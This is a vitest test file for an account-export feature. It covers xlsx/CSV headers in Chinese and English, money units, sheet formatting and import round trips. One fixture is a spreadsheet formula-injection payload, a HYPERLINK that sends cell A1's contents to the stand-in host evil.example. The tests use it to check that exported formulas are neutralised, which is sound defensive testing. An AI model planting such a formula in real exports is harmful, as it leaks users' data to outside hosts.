import ExcelJS from 'exceljs'
import Papa from 'papaparse'
import readXlsxFile from 'read-excel-file/node'
import { describe, expect, it } from 'vitest'
import { openTestWorkbench, type TestWorkbench } from '../helpers/workbench'
import { makeAccountRows, writeAccountsXlsx } from '../helpers/account-fixtures'
import { exportColumns, type ExportColumn, type ExportedFile } from '../../src/shared/contract'
import type { Account } from '../../src/shared/domain/accounts/account'
import { translate } from '../../src/shared/i18n'

const FORMULA_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"点我领取")'

/** 家乐福上海: the figures a user would look up in the exported file. */
async function seedAccounts(app: TestWorkbench): Promise<{ carrefour: Account; formula: Account; bare: Account }> {
  const carrefour = await app.call('accounts:create', {
    values: {
      code: 'KA-0002',
      name: '家乐福上海',
      format: '大卖场',
      background: '国际',
      tier: '头部客户',
      tradeType: '总部直供',
      regionCode: '310115',
      directStores: 22,
      salesAreaM2: 202_400,
      annualSalesFen: '5200000000.55',
      employees: 8800,
      dailyTraffic: 231_000,
      dailyTransactions: 90_200,
      isTopThreeInRegion: '是',
      hasStrongHqExecution: null,
      notes: '新品须经华东采购中心评审'
    }
  })
  const formula = await app.call('accounts:create', {
    values: { code: 'X-1', name: FORMULA_NAME, format: '便利店', notes: '+86 138 0000 0000', annualSalesFen: 1000 }
  })
  const bare = await app.call('accounts:create', { values: { code: 'X-2', name: '空白客户', format: '药店' } })
  return { carrefour, formula, bare }
}

const decode = (file: ExportedFile): Buffer => Buffer.from(file.dataBase64, 'base64')

async function readBack(file: ExportedFile): Promise<unknown[][]> {
  return (await readXlsxFile(decode(file)))[0]?.data as unknown[][]
}

describe('accounts export: xlsx', () => {
  it('writes every column with zh-CN headers, yuan money, ratios and labels (read back independently)', async () => {
    const app = openTestWorkbench()
    const { carrefour, formula, bare } = await seedAccounts(app)
    const file = await app.call('accounts:export', {
      format: 'xlsx',
      ids: [carrefour.id, formula.id, bare.id],
      columns: [...exportColumns],
      language: 'zh-CN'
    })
    expect(file.fileName).toMatch(/^客户-\d{4}-\d{2}-\d{2}\.xlsx$/)
    expect(file.mimeType).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
    expect(file.rowCount).toBe(3)

    const sheets = await readXlsxFile(decode(file))
    expect(sheets[0]?.sheet).toBe('客户')
    const [headers, row, formulaRow, bareRow] = sheets[0]?.data as unknown[][]
    expect(headers).toEqual(exportColumns.map((column) => translate('zh-CN', `fields.${column}`)))
    expect(headers?.slice(0, 3)).toEqual(['客户编码', '客户名称', '业态'])

    const cell = (column: ExportColumn, data = row) => data?.[exportColumns.indexOf(column)]
    expect(cell('code')).toBe('KA-0002')
    expect(cell('format')).toBe('大卖场')
    expect(cell('background')).toBe('国际')
    expect(cell('tradeType')).toBe('总部直供')
    expect(cell('regionCode')).toBe('310115')
    expect(cell('regionName')).toBe('上海市 浦东新区')
    expect(cell('directStores')).toBe(22)
    expect(cell('annualSalesFen')).toBe(5_200_000_000.55)
    // 202,400 m² over 22 stores = 9,200 m² a store: a class A hypermarket.
    expect(cell('averageStoreAreaM2')).toBe(9200)
    expect(cell('storeClass')).toBe('A 类')
    expect(cell('salesPerM2Fen')).toBe(25_691.7)
    expect(cell('conversionRate')).toBeCloseTo(90_200 / 231_000, 12)
    expect(cell('isTopThreeInRegion')).toBe('是')
    expect(cell('hasStrongHqExecution')).toBeNull()
    expect(cell('directStoresCriterion')).toBe('不满足')
    // A hypermarket: the seed's rule (for pharmacy chains) does not apply by default.
    expect(cell('screeningVerdict')).toBe('不适用')
    expect(cell('updatedAt')).toBe(carrefour.updatedAt)

    // Text that looks like a formula is a plain string cell, never a formula.
    expect(cell('name', formulaRow)).toBe(FORMULA_NAME)
    expect(cell('notes', formulaRow)).toBe('+86 138 0000 0000')
    expect(cell('annualSalesFen', formulaRow)).toBe(1000)
    // Unknown figures are empty cells; the verdict is still given.
    expect(cell('annualSalesFen', bareRow)).toBeNull()
    expect(cell('conversionRate', bareRow)).toBeNull()
    expect(cell('screeningVerdict', bareRow)).toBe('待定')
  })

  it('screens the formats the workspace setting names: 家乐福上海 is 不符合 once hypermarkets are on', async () => {
    const app = openTestWorkbench()
    const { carrefour } = await seedAccounts(app)
    const verdict = async () => {
      const file = await app.call('accounts:export', { format: 'csv', ids: [carrefour.id], columns: ['name', 'screeningVerdict'], language: 'zh-CN' })
      return decode(file).toString('utf8').replace(/^\uFEFF/, '').trim().split(/\r?\n/)[1]
    }
    expect(await verdict()).toBe('家乐福上海,不适用')
    await app.call('settings:set', { key: 'screeningFormats', value: ['pharmacy', 'hypermarket'] })
    // 22 direct stores, fewer than 25.
    expect(await verdict()).toBe('家乐福上海,不符合')
  })

  it('writes en-US headers and labels, the chosen columns in the chosen order, the ids in order', async () => {
    const app = openTestWorkbench()
    const { carrefour, formula } = await seedAccounts(app)
    const file = await app.call('accounts:export', {
      format: 'xlsx',
      ids: [formula.id, 999_999, carrefour.id],
      columns: ['conversionRate', 'name', 'format', 'annualSalesFen', 'screeningVerdict'],
      language: 'en-US'
    })
    expect(file.fileName).toMatch(/^accounts-\d{4}-\d{2}-\d{2}\.xlsx$/)
    expect(file.rowCount).toBe(2)
    const data = await readBack(file)
    expect(data).toEqual([
      ['Conversion', 'Account name', 'Format', 'Annual sales (CNY)', 'Screening verdict'],
      [null, FORMULA_NAME, 'Convenience chain', 1000, 'n/a'],
      [expect.closeTo(0.3905, 4), '家乐福上海', 'Hypermarket', 5_200_000_000.55, 'n/a']
    ])
  })

  it('formats the sheet: bold frozen header, autofilter, number formats, no formula cells', async () => {
    const app = openTestWorkbench()
    const { carrefour, formula } = await seedAccounts(app)
    const file = await app.call('accounts:export', {
      format: 'xlsx',
      ids: [carrefour.id, formula.id],
      columns: ['name', 'directStores', 'annualSalesFen', 'conversionRate', 'notes'],
      language: 'zh-CN'
    })
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(decode(file) as unknown as ArrayBuffer)
    const sheet = workbook.worksheets[0]
    expect(sheet?.name).toBe('客户')
    expect(sheet?.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
    expect(sheet?.autoFilter).toBe('A1:E1')
    expect(sheet?.getCell('A1').font?.bold).toBe(true)
    expect(sheet?.getCell('B2').numFmt).toBe('#,##0')
    expect(sheet?.getCell('C2').numFmt).toBe('#,##0.00')
    expect(sheet?.getCell('D2').numFmt).toBe('0.0%')
    expect(sheet?.getCell('A3').type).toBe(ExcelJS.ValueType.String)
    expect(sheet?.getCell('A3').formula).toBeUndefined()
    for (const index of [1, 2, 3, 4, 5]) expect(sheet?.getColumn(index).width).toBeGreaterThanOrEqual(10)
  })
})

describe('accounts export: many ids', () => {
  it('keeps the order of the ids, once each, and skips ids that are gone', async () => {
    const app = openTestWorkbench()
    const created = (await app.call('accounts:apply-changes', { updates: [], creates: makeAccountRows(700, 4) })).created
    const ids = created.map((account) => account.id).reverse()
    const file = await app.call('accounts:export', {
      format: 'csv',
      ids: [...ids, 9_999_999, ids[0] as number],
      columns: ['code'],
      language: 'en-US'
    })
    expect(file.rowCount).toBe(700)
    const lines = decode(file).subarray(3).toString('utf8').trimEnd().split('\r\n')
    expect(lines.slice(1)).toEqual(created.map((account) => account.code).reverse())
  })
})

describe('accounts export: csv', () => {
  it('writes UTF-8 with a BOM and CRLF, quotes per RFC 4180 and neutralises formulas', async () => {
    const app = openTestWorkbench()
    const { carrefour, formula } = await seedAccounts(app)
    await app.call('accounts:update', { id: carrefour.id, patch: { notes: '合同: "年度", 3 月续签\n含店庆' } })
    const file = await app.call('accounts:export', {
      format: 'csv',
      ids: [carrefour.id, formula.id],
      columns: ['code', 'name', 'annualSalesFen', 'directStores', 'conversionRate', 'isTopThreeInRegion', 'notes'],
      language: 'zh-CN'
    })
    expect(file.fileName).toMatch(/^客户-\d{4}-\d{2}-\d{2}\.csv$/)
    expect(file.mimeType).toBe('text/csv;charset=utf-8')
    const bytes = decode(file)
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const text = bytes.subarray(3).toString('utf8')
    expect(text.split('\r\n')[0]).toBe('客户编码,客户名称,年销售额(元),直营门店数,成交率,区域前三甲,备注')
    expect(text.endsWith('\r\n')).toBe(true)

    const rows = Papa.parse<string[]>(text, { skipEmptyLines: true }).data
    expect(rows[1]).toEqual(['KA-0002', '家乐福上海', '5200000000.55', '22', '39.0%', '是', '合同: "年度", 3 月续签\n含店庆'])
    expect(rows[2]).toEqual(['X-1', `'${FORMULA_NAME}`, '1000.00', '', '', '', "'+86 138 0000 0000"])
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""点我领取"")"`)
  })
})

describe('accounts export → import round trip', () => {
  async function roundTrip(format: 'xlsx' | 'csv', language: 'zh-CN' | 'en-US', moneyUnit: 'yuan' | 'wan' | 'yi' = 'yuan') {
    const source = openTestWorkbench()
    const rows = makeAccountRows(40, 11)
    rows[0] = { ...rows[0]!, name: FORMULA_NAME, notes: '-5 折扣\n第二行 "引号", 逗号' }
    const fixtureFile = await writeAccountsXlsx(rows, 'zh-CN')
    const preview = await source.call('accounts:import-preview', { fileName: 'seed.xlsx', dataBase64: fixtureFile.toString('base64') })
    await source.call('accounts:import-commit', {
      fileName: 'seed.xlsx',
      dataBase64: fixtureFile.toString('base64'),
      mapping: preview.columns.map((column) => column.field)
    })
    const original = await source.call('accounts:list', {})
    expect(original).toHaveLength(40)

    const exported = await source.call('accounts:export', {
      format,
      ids: original.map((account) => account.id),
      columns: [...exportColumns],
      language,
      moneyUnit
    })
    const target = openTestWorkbench()
    const upload = { fileName: exported.fileName, dataBase64: exported.dataBase64 }
    const back = await target.call('accounts:import-preview', upload)
    expect(back).toMatchObject({ totalRows: 40, validRows: 40, errorCount: 0, missingRequired: [] })
    // The computed columns (class, KPIs, verdict, region name, updated) are not imported back.
    expect(back.columns.filter((column) => column.field !== null)).toHaveLength(17)
    await target.call('accounts:import-commit', { ...upload, mapping: back.columns.map((column) => column.field) })

    const strip = ({ id: _id, updatedAt: _updatedAt, ...values }: Account) => values
    expect((await target.call('accounts:list', {})).map(strip)).toEqual(original.map(strip))
  }

  it('keeps every value through xlsx (zh-CN)', () => roundTrip('xlsx', 'zh-CN'))
  it('keeps every value through xlsx (en-US)', () => roundTrip('xlsx', 'en-US'))
  it('keeps every value through csv (zh-CN)', () => roundTrip('csv', 'zh-CN'))
  it('keeps every value through csv (en-US)', () => roundTrip('csv', 'en-US'))
  // Annual sales exported in the unit the grid shows: the header names it and the importer scales it back, to the fen.
  it('keeps every value through xlsx in 万元 (zh-CN)', () => roundTrip('xlsx', 'zh-CN', 'wan'))
  it('keeps every value through csv in 亿元 (en-US)', () => roundTrip('csv', 'en-US', 'yi'))
  it('keeps every value through csv in 万元 (zh-CN)', () => roundTrip('csv', 'zh-CN', 'wan'))
})

describe('accounts export in the unit the grid shows', () => {
  it('writes annual sales in 万元 under a header that says so, exactly (¥52 亿 0.55 元 = 520,000.0000555 万元)', async () => {
    const app = openTestWorkbench()
    const { carrefour } = await seedAccounts(app)
    const file = await app.call('accounts:export', { format: 'csv', ids: [carrefour.id], columns: ['code', 'annualSalesFen', 'averageTicketFen'], language: 'zh-CN', moneyUnit: 'wan' })
    const lines = decode(file).toString('utf8').replace(/^\uFEFF/, '').trim().split(/\r?\n/)
    expect(lines[0]).toBe('客户编码,年销售额(万元),客单价(元)')
    // 5,200,000,000.55 yuan = 520,000,000,055 fen; ÷ 1,000,000 fen per 万元.
    expect(lines[1]?.split(',').slice(0, 2)).toEqual(['KA-0002', '520000.000055'])
    const xlsx = await app.call('accounts:export', { format: 'xlsx', ids: [carrefour.id], columns: ['annualSalesFen'], language: 'en-US', moneyUnit: 'yi' })
    const data = await readBack(xlsx)
    expect(data[0]).toEqual(['Annual sales (100M CNY)'])
    expect(data[1]?.[0]).toBeCloseTo(52.0000000055, 10)
  })
})
